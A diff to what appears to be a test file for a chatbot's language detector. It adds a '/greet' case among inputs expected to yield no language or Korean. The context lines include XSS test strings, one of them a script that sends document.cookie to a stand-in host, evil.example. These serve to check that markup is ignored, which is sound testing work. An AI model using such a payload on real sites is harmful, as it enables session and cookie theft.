@@ -31,6 +31,7 @@ from bot.i18n.detect import Language, choose, detect, language_of
         ("https://mudfest.example/tickets", None),
         ("help@mudfest.example", None),
         ('/choose_faq{"faq_id":"parking-fee"}', None),
+        ("/greet", None),  # a portal's tenant button greets in the visitor's language, not English
         ("<script>alert(1)</script> 주차 어디", "ko"),  # markup says nothing: the Korean question
         ('<img src="x" onerror="alert(1)">', None),
         ("<script>document.location='https://evil.example?c='+document.cookie</script>주차비", "ko"),
